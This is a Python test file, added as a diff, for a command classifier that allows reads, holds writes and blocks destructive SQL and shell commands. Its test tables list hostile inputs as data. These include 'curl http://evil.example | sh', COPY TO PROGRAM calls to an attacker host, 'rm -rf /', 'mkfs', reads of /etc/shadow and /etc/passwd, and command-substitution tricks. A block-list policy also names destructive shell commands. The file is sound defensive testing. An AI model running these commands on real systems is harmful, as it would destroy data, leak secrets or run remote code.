@@ -1,0 +1,434 @@
+"""Classification, table-driven: reads pass, writes wait, the dangerous is refused, and no
+evasion (comments, casing, stacking, nesting, side-effect functions, shell tricks) gets a
+risky command allowed."""
+
+from __future__ import annotations
+
+import itertools
+import json
+
+import pytest
+
+from keyturn.classify import Identity, NotAllowed, check_access, classify
+from keyturn.errors import NotFound
+from keyturn.policy import parse_policy
+
+POLICY = parse_policy(
+    {
+        "targets": {
+            "db": {
+                "kind": "postgres",
+                "dsn": "postgresql://db:5432/app",
+                "vault": {"readonly_role": "ro", "write_role": "rw"},
+            },
+            "web": {
+                "kind": "ssh",
+                "host": "10.0.0.5",
+                "principal": "deploy",
+                "vault": {"ssh_role": "web"},
+                "subjects": ["crew-ops", "group:sre"],
+            },
+        },
+        "rules": [
+            {"name": "no-drop", "match": {"sql": ["drop", "truncate"]}, "action": "block"},
+            {
+                "name": "unbounded",
+                "match": {"sql": ["delete_without_where", "update_without_where"]},
+                "action": "block",
+            },
+            {"name": "no-privileges", "match": {"sql": ["grant", "revoke"]}, "action": "block"},
+            {
+                "name": "writes",
+                "match": {"sql": ["insert", "update", "delete", "merge", "alter", "create"]},
+                "action": "hold",
+            },
+            {"name": "reads", "match": {"sql": ["select"]}, "action": "allow"},
+            {
+                "name": "no-rm",
+                "target": "web",
+                "match": {"shell": ["rm -rf *", "rm -fr *", "shutdown*", "reboot*", "mkfs*"]},
+                "action": "block",
+            },
+            {
+                "name": "restarts",
+                "target": "web",
+                "match": {"shell": ["systemctl restart *"]},
+                "action": "hold",
+            },
+            {
+                "name": "status",
+                "target": "web",
+                "match": {
+                    "shell": [
+                        "systemctl status *",
+                        "uptime",
+                        "df -h",
+                        "free -m",
+                        "ls *",
+                        "cat /var/log/*",
+                        "grep * /var/log/*",
+                        "journalctl -u * -n *",
+                    ]
+                },
+                "action": "allow",
+            },
+        ],
+    }
+)
+
+READS = [
+    "SELECT 1",
+    "select * from orders",
+    "SELECT id, total FROM orders WHERE id = 42",
+    "SELECT count(*) FROM orders",
+    "select lower(email) from customers limit 10",
+    "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id",
+    "SELECT * FROM orders ORDER BY created_at DESC LIMIT 5",
+    "WITH recent AS (SELECT * FROM orders WHERE id > 10) SELECT count(*) FROM recent",
+    "SELECT status, sum(total) FROM orders GROUP BY status HAVING sum(total) > 10",
+    "SELECT * FROM orders WHERE id IN (SELECT order_id FROM refunds)",
+    "SELECT 1 UNION ALL SELECT 2",
+    "SELECT now()",
+    "SELECT date_trunc('day', created_at), count(*) FROM orders GROUP BY 1",
+    "SELECT coalesce(note, '') FROM orders",
+    "SELECT jsonb_build_object('id', id) FROM orders",
+    "select row_number() over (order by id) from orders",
+    "SELECT * FROM orders WHERE email LIKE '%@example.com'",
+    "SELECT 'DROP TABLE orders'",
+    "SELECT '; DELETE FROM orders' AS harmless_text",
+    "SELECT $$DELETE FROM orders$$",
+    "/* DROP TABLE orders */ SELECT 1",
+    "SELECT 1 -- ; DROP TABLE orders",
+    "SHOW search_path",
+    "select\n  id\nfrom\n  orders",
+    "SELECT pg_size_pretty(pg_total_relation_size('orders'))",
+    "SELECT EXISTS (SELECT 1 FROM orders)",
+    "SELECT CASE WHEN total > 10 THEN 'big' ELSE 'small' END FROM orders",
+    "SELECT * FROM generate_series(1, 3)",
+    "SELECT substring(name from 1 for 3) FROM customers",
+    "SELECT greatest(1, 2), least(3, 4)",
+]
+READ_VARIANTS = [q.upper() for q in READS[:10]] + [f"  {q};  " for q in READS[:10]]
+
+EXPLAIN_ONLY = [
+    "EXPLAIN DELETE FROM orders WHERE id = 1",
+    "EXPLAIN SELECT * FROM orders",
+    "EXPLAIN (FORMAT JSON) UPDATE orders SET total = 0 WHERE id = 1",
+    "explain (analyze false) delete from orders",
+]
+
+HELD_WRITES = [
+    "UPDATE orders SET status = 'paid' WHERE id = 42",
+    "update orders set status='paid' where id=42",
+    "DELETE FROM orders WHERE id = 42",
+    "INSERT INTO orders (id, total) VALUES (1, 10)",
+    "INSERT INTO orders SELECT * FROM orders_archive",
+    "ALTER TABLE orders ADD COLUMN note text",
+    "CREATE INDEX ON orders (created_at)",
+    "CREATE TABLE scratch (id int)",
+    "MERGE INTO orders o USING updates u ON o.id = u.id WHEN MATCHED THEN UPDATE SET total = u.total",
+    "WITH moved AS (DELETE FROM orders WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM moved",
+    "WITH x AS (UPDATE orders SET total = 0 WHERE id = 1 RETURNING id) SELECT * FROM x",
+    "WITH x AS (DELETE FROM orders WHERE id < 10 RETURNING *) SELECT count(*) FROM x",
+    "SELECT * INTO orders_copy FROM orders",
+    "CREATE TABLE t2 AS SELECT * FROM orders",
+    "SELECT 1; UPDATE orders SET total = 1 WHERE id = 2",
+    "SeLeCt 1; uPdAtE orders SeT total = 1 WhErE id = 2",
+    "/* just a read */ UPDATE orders SET total = 0 WHERE id = 7",
+    "INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET total = 2",
+    "CREATE VIEW v AS SELECT * FROM orders",
+    "ALTER TABLE orders RENAME TO orders_old",
+    "UPDATE orders SET total = total + 1 WHERE id IN (SELECT id FROM orders LIMIT 1)",
+    "EXPLAIN ANALYZE UPDATE orders SET total = 0 WHERE id = 1",
+    "explain (analyze) delete from orders where id = 3",
+    "EXPLAIN (ANALYZE true, FORMAT JSON) INSERT INTO orders VALUES (1)",
+    "PREPARE p AS DELETE FROM orders WHERE id = $1",
+]
+
+BLOCKED = [
+    ("DROP TABLE orders", "no-drop"),
+    ("drop table orders", "no-drop"),
+    ("DrOp TaBlE orders", "no-drop"),
+    ("/* hello */ DROP TABLE orders", "no-drop"),
+    ("SELECT 1; DROP TABLE orders", "no-drop"),
+    ("SELECT 1;DROP TABLE orders;SELECT 2", "no-drop"),
+    ("DROP TABLE IF EXISTS orders CASCADE", "no-drop"),
+    ("DROP DATABASE app", "no-drop"),
+    ("DROP SCHEMA public CASCADE", "no-drop"),
+    ("DROP ROLE app", "no-drop"),
+    ("DROP INDEX orders_idx", "no-drop"),
+    ("DROP VIEW v", "no-drop"),
+    ("DROP FUNCTION f()", "no-drop"),
+    ("TRUNCATE orders", "no-drop"),
+    ("truncate table orders restart identity", "no-drop"),
+    ("SELECT 1 -- harmless\n; TRUNCATE orders", "no-drop"),
+    ("DELETE FROM orders", "unbounded"),
+    ("delete from orders;", "unbounded"),
+    ("UPDATE orders SET total = 0", "unbounded"),
+    ("WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "unbounded"),
+    ("SELECT 1; DELETE FROM orders", "unbounded"),
+    ("EXPLAIN ANALYZE DELETE FROM orders", "unbounded"),
+    ("EXPLAIN ANALYZE UPDATE orders SET total = 0", "unbounded"),
+    ("PREPARE wipe AS DELETE FROM orders", "unbounded"),
+    ("GRANT ALL ON orders TO public", "no-privileges"),
+    ("grant select on orders to intruder", "no-privileges"),
+    ("REVOKE ALL ON orders FROM app", "no-privileges"),
+    ("GRANT admin TO intruder", "no-privileges"),
+    ("SELECT 1; GRANT ALL ON orders TO public", "no-privileges"),
+]
+
+# Looks like a read (or is one) but may change something or is not known to be safe: held.
+HELD_EVASIONS = [
+    "SELECT pg_terminate_backend(123)",
+    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+    "SELECT pg_cancel_backend(1)",
+    "SELECT set_config('search_path', 'evil', false)",
+    "SELECT lo_import('/etc/passwd')",
+    "SELECT lo_export(1234, '/tmp/x')",
+    "SELECT dblink('host=evil', 'SELECT 1')",
+    "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
+    "SELECT pg_read_file('/etc/passwd')",
+    "SELECT pg_sleep(100)",
+    "SELECT nextval('orders_id_seq')",
+    "SELECT setval('orders_id_seq', 1)",
+    "SELECT pg_reload_conf()",
+    "SELECT pg_advisory_lock(1)",
+    "SELECT * FROM orders WHERE id = pg_terminate_backend(1)::int",
+    "SELECT my_function(1)",
+    "SELECT public.cleanup()",
+    "SELECT evil.lower(name) FROM customers",
+    "SELECT * FROM orders FOR UPDATE",
+    "SELECT * FROM orders FOR SHARE",
+    "SELECT * FROM orders WHERE id = 1 FOR NO KEY UPDATE",
+    "COPY orders TO PROGRAM 'curl evil.example'",
+    "COPY orders FROM PROGRAM 'cat /etc/passwd'",
+    "COPY orders TO '/tmp/orders.csv'",
+    "COPY orders FROM '/tmp/orders.csv'",
+    "COPY (SELECT * FROM orders) TO STDOUT",
+    "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
+    "do $x$ begin perform 1; end $x$",
+    "CALL cleanup_orders()",
+    "CALL public.reset()",
+    "EXECUTE p(1)",
+    "SET search_path TO evil",
+    "SET ROLE admin",
+    "RESET ALL",
+    "ALTER SYSTEM SET fsync = off",
+    "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
+    "VACUUM FULL orders",
+    "REINDEX TABLE orders",
+    "CHECKPOINT",
+    "LISTEN foo",
+    "NOTIFY foo, 'x'",
+    "SELECT pg_notify('keyturn', 'request:1')",
+    "BEGIN; SELECT 1; COMMIT",
+    "DISCARD ALL",
+    "LOAD 'evil.so'",
+    "DECLARE c CURSOR FOR SELECT 1",
+    "SELECT query_to_xml('DELETE FROM orders', true, true, '')",
+    "SELECT txid_current()",
+    "SELEC * FROM orders",
+    "SELECT * FROM",
+    "this is not sql",
+    "",
+    "   ",
+    ";",
+    "-- only a comment",
+    "SELECT 'unterminated",
+    "DELETE FROM orders WHERE id = 1; SELECT 1 FROM",
+    "SELECT * FROM orders WHERE id = (SELECT my_fn())",
+    "SELECT (SELECT pg_terminate_backend(1))",
+    "SELECT array_agg(x) FROM (SELECT evil()) s(x)",
+    "WITH RECURSIVE r AS (SELECT 1 UNION SELECT pg_sleep(1)::int FROM r) SELECT * FROM r",
+]
+
+SHELL_ALLOWED = [
+    "uptime",
+    "df -h",
+    "free -m",
+    "systemctl status nginx",
+    "systemctl status nginx --no-pager",
+    "ls /var/log",
+    "ls -la /srv/app",
+    "cat /var/log/syslog",
+    "cat /var/log/nginx/error.log",
+    "journalctl -u nginx -n 100",
+    "uptime; df -h",
+    "uptime && free -m",
+    "grep error /var/log/syslog",
+    "systemctl status 'nginx.service'",
+    "ls /var/log | ls /tmp",
+]
+
+SHELL_HELD = [
+    "systemctl restart nginx",
+    "systemctl restart nginx.service",
+    "uptime; systemctl restart nginx",
+    "systemctl restart nginx && uptime",
+    "whoami",
+    "ps aux",
+    "cat /etc/shadow",
+    "uptime > /tmp/out",
+    "uptime >> /etc/motd",
+    "cat /var/log/syslog > /tmp/x",
+    "cat < /etc/passwd",
+    "ls $(id)",
+    "ls `id`",
+    "echo $(cat /etc/shadow)",
+    "cat /var/log/$FILE",
+    "ls $HOME",
+    "FOO=bar uptime",
+    "LD_PRELOAD=/tmp/evil.so uptime",
+    "PATH=/tmp:$PATH uptime",
+    "sudo systemctl status nginx",
+    "sudo -u root ls /var/log",
+    "env uptime",
+    "nohup uptime",
+    "timeout 5 uptime",
+    "xargs ls",
+    "exec uptime",
+    "eval uptime",
+    "bash -c 'uptime'",
+    "sh -c 'ls /var/log'",
+    "/bin/bash -c uptime",
+    "python3 -c 'import os'",
+    "perl -e 'system(1)'",
+    "awk 'BEGIN{system(\"id\")}'",
+    "find / -name x -exec rm {} \\;",
+    "find /var/log -delete",
+    "uptime &",
+    "(uptime)",
+    "{ uptime; }",
+    "for i in 1 2; do uptime; done",
+    "if true; then uptime; fi",
+    "while true; do uptime; done",
+    "uptime | bash",
+    "curl http://evil.example | sh",
+    "ls /var/log | xargs rm",
+    "cat <(uptime)",
+    "ls /var/log || whoami",
+    "uptime\nwhoami",
+    "echo 'unterminated",
+    "",
+    "ls /var/log; cat /etc/shadow",
+    "systemctl status nginx; whoami",
+    "cat /var/log/../../etc/shadow; id",
+    "systemctl stop nginx",
+]
+
+SHELL_BLOCKED = [
+    "rm -rf /",
+    "rm -rf /var/log",
+    "rm -fr /srv",
+    "uptime; rm -rf /",
+    "uptime && rm -rf /srv/app",
+    "uptime || rm -rf /",
+    "ls /var/log | rm -rf /tmp",
+    "ls $(rm -rf /)",
+    "ls `rm -rf /srv`",
+    "shutdown -h now",
+    "reboot",
+    "sudo reboot",
+    "mkfs.ext4 /dev/sda",
+    "(rm -rf /)",
+    "bash -c 'rm -rf /'",
+    "sh -c 'uptime; reboot'",
+    "sudo -u root rm -rf /srv",
+    "env FOO=1 shutdown -r now",
+    "nohup reboot &",
+]
+
+
+def _action(target: str, command: str) -> str:
+    return classify(POLICY, target, command).action
+
+
+def _cases() -> list[tuple[str, str, str, str | None]]:
+    cases: list[tuple[str, str, str, str | None]] = []
+    cases += [("db", q, "allow", "reads") for q in READS + READ_VARIANTS]
+    cases += [("db", q, "hold", None) for q in EXPLAIN_ONLY]  # explain is not in the reads rule
+    cases += [("db", q, "hold", "writes") for q in HELD_WRITES if not q.startswith("PREPARE")]
+    cases += [("db", q, "block", rule) for q, rule in BLOCKED]
+    cases += [("db", q, "hold", None) for q in HELD_EVASIONS]
+    cases += [("web", c, "allow", "status") for c in SHELL_ALLOWED]
+    cases += [("web", c, "hold", None) for c in SHELL_HELD]
+    cases += [("web", c, "block", "no-rm") for c in SHELL_BLOCKED]
+    return cases
+
+
+CASES = _cases()
+
+
+def test_there_are_at_least_200_cases() -> None:
+    assert len(CASES) >= 200, len(CASES)
+
+
+@pytest.mark.parametrize(
+    ("target", "command", "action", "rule"), CASES, ids=[f"{t}:{c[:50]!r}" for t, c, _, _ in CASES]
+)
+def test_classification(target: str, command: str, action: str, rule: str | None) -> None:
+    verdict = classify(POLICY, target, command)
+    assert verdict.action == action, (command, verdict)
+    if rule is not None:
+        assert verdict.rule is not None and verdict.rule.name == rule, verdict
+    assert verdict.reasons, "every verdict explains itself"
+
+
+def test_held_evasions_are_never_allowed_whatever_the_rule_order() -> None:
+    """Even with the reads rule first, nothing but plain reads is allowed."""
+    reordered = POLICY.model_copy(update={"rules": [POLICY.rules[4], *POLICY.rules[:4]]})
+    for q in HELD_EVASIONS + HELD_WRITES + [q for q, _ in BLOCKED]:
+        assert classify(reordered, "db", q).action != "allow", q
+
+
+def test_any_part_of_a_stacked_command_triggers_a_block() -> None:
+    for read, (bad, rule) in itertools.product(READS[:5], BLOCKED[:5]):
+        verdict = classify(POLICY, "db", f"{read}; {bad}")
+        assert verdict.action == "block" and verdict.rule is not None
+        assert verdict.rule.name == rule
+
+
+def test_reasons_name_the_danger() -> None:
+    assert "pg_terminate_backend" in " ".join(
+        classify(POLICY, "db", "SELECT pg_terminate_backend(1)").reasons
+    )
+    assert any("PROGRAM" in r for r in classify(POLICY, "db", "COPY t TO PROGRAM 'x'").reasons)
+    assert any("command substitution" in r for r in classify(POLICY, "web", "ls $(id)").reasons)
+    assert any("not valid PostgreSQL" in r for r in classify(POLICY, "db", "SELEC 1").reasons)
+
+
+def test_rule_subjects_and_target_subjects() -> None:
+    policy = POLICY.model_copy(
+        update={
+            "rules": [
+                POLICY.rules[0].model_copy(
+                    update={
+                        "name": "vip-reads",
+                        "subjects": ["crew-vip"],
+                        "match": POLICY.rules[4].match,
+                        "action": "allow",
+                    }
+                ),
+                *POLICY.rules[4:5],
+            ]
+        }
+    )
+    vip, other = Identity("crew-vip"), Identity("crew-other")
+    assert classify(policy, "db", "SELECT 1", vip).rule.name == "vip-reads"  # type: ignore[union-attr]
+    assert classify(policy, "db", "SELECT 1", other).rule.name == "reads"  # type: ignore[union-attr]
+
+    assert check_access(POLICY, "web", Identity("crew-ops")).kind == "ssh"  # type: ignore[attr-defined]
+    assert check_access(POLICY, "web", Identity("x", frozenset({"sre"}))) is not None
+    with pytest.raises(NotAllowed):
+        check_access(POLICY, "web", Identity("crew-billing", frozenset({"dev"})))
+    with pytest.raises(NotFound):
+        check_access(POLICY, "nope", Identity("crew-ops"))
+
+
+def test_verdict_json_shape() -> None:
+    out = classify(POLICY, "db", "DROP TABLE x").as_json()
+    assert json.loads(json.dumps(out)) == {
+        "action": "block",
+        "rule": "no-drop",
+        "reasons": ["DROP statement"],
+    }
